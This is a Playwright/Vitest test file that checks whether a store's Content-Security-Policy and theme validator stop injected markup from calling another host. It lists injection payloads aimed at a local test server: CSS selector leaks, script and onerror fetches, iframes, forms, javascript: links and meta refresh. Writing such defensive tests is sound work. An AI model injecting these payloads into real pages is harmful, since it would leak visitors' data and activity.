import { once } from 'node:events'
import { createServer, type Server } from 'node:http'
import { validateTheme } from '@haat/theme-engine'
import type { Page } from 'playwright-core'
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { startTestPlatform, type TestPlatform } from '../test-platform.ts'
import { openBrowser, type TestBrowser } from './browser.ts'

// The ways in which markup tells another host who is looking at a page: what a theme, or a text that somebody typed, could
// try if it got past the engine. Each is put into a real page of a real store, under the headers that the store sends.

let browser: TestBrowser
let platform: TestPlatform
let proxy: Server
let storeUrl: string
/** Another host, and what it has receivedPaths. */
let otherOrigin: string
let receivedPaths: string[] = []
const otherServers: Server[] = []

beforeAll(async () => {
  ;[browser, platform] = await Promise.all([openBrowser(), startTestPlatform()])
  proxy = serveWithInjectedMarkup()
  await once(proxy, 'listening')
  storeUrl = `${platform.urls.storefront}/priya-masala`
})
afterAll(async () => {
  for (const server of otherServers) server.close()
  proxy.close()
  await browser.close()
  await platform.close()
})
beforeEach(startOtherServer)

/** To a host that nobody has called yet: what a page that is closed had on its way still reaches the one before. */
async function startOtherServer(): Promise<void> {
  const paths: string[] = []
  const server = createServer((request, response) => {
    paths.push(request.url ?? '')
    response.setHeader('access-control-allow-origin', '*').end('x')
  }).listen(0, '127.0.0.1')
  await once(server, 'listening')
  otherServers.push(server)
  otherOrigin = originOf(server)
  receivedPaths = paths
}

const loadingMarkup = (): Record<string, string> => ({
  'css-url': `<style>main{background:url(${otherOrigin}/css-url)}</style>`,
  'css-attribute': `<input value="secret"><style>input[value^="s"]{background:url(${otherOrigin}/css-attribute)}</style>`,
  'css-import': `<style>@import url(${otherOrigin}/css-import);</style>`,
  font: `<style>@font-face{font-family:spy;src:url(${otherOrigin}/font)}</style><p style="font-family:spy">seen</p>`,
  image: `<img src="${otherOrigin}/image" alt="">`,
  'inline-script': `<script>fetch("${otherOrigin}/inline-script")</script>`,
  handler: `<img src="data:," alt="" onerror='fetch("${otherOrigin}/handler")'>`,
  'svg-script': `<svg><script>fetch("${otherOrigin}/svg-script")</script></svg>`,
  frame: `<iframe src="${otherOrigin}/frame" title="spy"></iframe>`,
  object: `<object data="${otherOrigin}/object"></object>`,
  stylesheet: `<link rel="stylesheet" href="${otherOrigin}/stylesheet">`,
  prefetch: `<link rel="prefetch" href="${otherOrigin}/prefetch">`,
})
const navigatingMarkup = (): Record<string, string> => ({
  'base-image': `<base href="${otherOrigin}/"><img src="base-image" alt="">`,
  form: `<form action="${otherOrigin}/form" method="post"><button id="press">x</button></form>`,
  'script-address': `<a id="press" href='javascript:fetch("${otherOrigin}/script-address")'>x</a>`,
})

/** What the store would send if the markup stood in its storeUrl; without the policy where nothing protects it. */
let injection = { markup: '', is_protected: true }

/** The store behind a host that slips the markup in, so that Chromium meets it as it meets any page. */
function serveWithInjectedMarkup(): Server {
  return createServer(async (request, response) => {
    const upstream = await fetch(`${platform.urls.storefront}${request.url}`)
    const policy = upstream.headers.get('content-security-policy')
    if (injection.is_protected && policy !== null) response.setHeader('content-security-policy', policy)
    response.setHeader('content-type', upstream.headers.get('content-type') ?? 'text/plain')
    const body = Buffer.from(await upstream.arrayBuffer())
    const is_page = upstream.headers.get('content-type')?.startsWith('text/html')
    response.end(is_page ? body.toString().replace('</main>', `${injection.markup}</main>`) : body)
  }).listen(0, '127.0.0.1')
}

interface OpenedPage {
  readonly page: Page
  /** What the browser says that the policy blocked: the address, or `inline` for a script in the markup. */
  blocked(): string[]
}

async function openWith(markup: string, is_protected: boolean): Promise<OpenedPage> {
  injection = { markup, is_protected }
  const page = await browser.newPage()
  const blocked: string[] = []
  await page.exposeFunction('reportBlocked', (what: string) => blocked.push(what))
  await page.addInitScript(() => {
    const { reportBlocked } = window as unknown as { reportBlocked(what: string): void }
    document.addEventListener('securitypolicyviolation', ({ blockedURI }) => reportBlocked(blockedURI))
  })
  await page.goto(`${originOf(proxy)}/priya-masala`, { waitUntil: 'load' })
  // From a timer: pressed at once, the page might be gone before it has answered.
  await page.evaluate(() => void setTimeout(() => document.getElementById('press')?.click()))
  return { page, blocked: () => blocked }
}

/** What the browser says when it refuses a trick, if not the address that the trick asks for. */
const reportedUris = (): Record<string, string> => ({
  'inline-script': 'inline',
  handler: 'inline',
  'svg-script': 'inline',
  'script-address': 'inline',
  'base-image': `${otherOrigin}/`,
  frame: otherOrigin,
  object: otherOrigin,
})

/** The tricks that no refusal is there for yet; each refusal is for one of them. */
function findUnblocked(tricks: readonly string[], blocked: readonly string[]): string[] {
  const left = [...blocked]
  return tricks.filter((name) => {
    const at = left.indexOf(reportedUris()[name] ?? `${otherOrigin}/${name}`)
    if (at >= 0) left.splice(at, 1)
    return at < 0
  })
}

function originOf(server: Server): string {
  const address = server.address()
  if (address === null || typeof address === 'string') throw new Error('The server has no port')
  return `http://127.0.0.1:${address.port}`
}

describe('under the headers of a store, another host hears nothing of', () => {
  test('whatever a page loads', async () => {
    const names = Object.keys(loadingMarkup())
    const unprotectedPage = await openWith(Object.values(loadingMarkup()).join(''), false)
    for (const name of names) await expect.poll(() => receivedPaths, { timeout: 10_000 }).toContain(`/${name}`)
    await unprotectedPage.page.close()

    await startOtherServer()
    const protectedPage = await openWith(Object.values(loadingMarkup()).join(''), true)
    await expect.poll(() => findUnblocked(names, protectedPage.blocked()), { timeout: 10_000 }).toEqual([])
    expect(receivedPaths).toEqual([])
    await protectedPage.page.close()
  })

  test.each(['base-image', 'form', 'script-address'])('%s', async (name) => {
    const unprotectedPage = await openWith(navigatingMarkup()[name] ?? '', false)
    await expect.poll(() => receivedPaths, { timeout: 10_000 }).toContain(`/${name}`)
    // Chromium sometimes never closes a page that is on its way to another.
    if (name === 'form') await unprotectedPage.page.waitForURL(`${otherOrigin}/form`)
    await unprotectedPage.page.close()

    await startOtherServer()
    const protectedPage = await openWith(navigatingMarkup()[name] ?? '', true)
    await expect.poll(() => findUnblocked([name], protectedPage.blocked()), { timeout: 10_000 }).toEqual([])
    expect(receivedPaths).toEqual([])
    await protectedPage.page.close()
  })
})

test('what no policy stops, a page that sends its visitor away by itself, is no part of a theme and of no text', async () => {
  const refresh = `<meta http-equiv="refresh" content="0;url=${otherOrigin}/refresh">`
  const findings = validateTheme(
    new Map([['sections/away.liquid', `{% comment %}\n@section "Away"\n{% endcomment %}\n<p>Hello</p>${refresh}`]]),
  )
  expect(findings.filter(({ file, severity }) => file === 'sections/away.liquid' && severity === 'error')).toHaveLength(
    1,
  )

  const { token } = await signIn()
  const text = `<p>Hello</p>${refresh}<a href="${otherOrigin}/link">there</a>`
  const body = { store_slug: 'priya-masala', title: 'Away', body: text }
  const made = await call('/api/store/pages', body, token)
  expect(made.status).toBe(201)
  const page = await browser.newPage()
  await page.goto(`${storeUrl}/pages/away`)
  await page.getByText('Hello').waitFor()
  await expect.poll(() => page.locator('meta[http-equiv=refresh]').count()).toBe(0)
  await expect.poll(() => page.getByRole('link', { name: 'there' }).getAttribute('rel')).toContain('noopener')
  expect(receivedPaths).toEqual([])
  await page.close()
})

async function signIn(): Promise<{ token: string }> {
  const { email, password } = platform.vendor
  return (await call('/api/vendor/login', { email, password })).json()
}

function call(path: string, body: object, token?: string): Promise<Response> {
  const headers = { 'content-type': 'application/json', ...(token && { authorization: `Bearer ${token}` }) }
  return fetch(`${platform.urls.backend}${path}`, { method: 'POST', headers, body: JSON.stringify(body) })
}
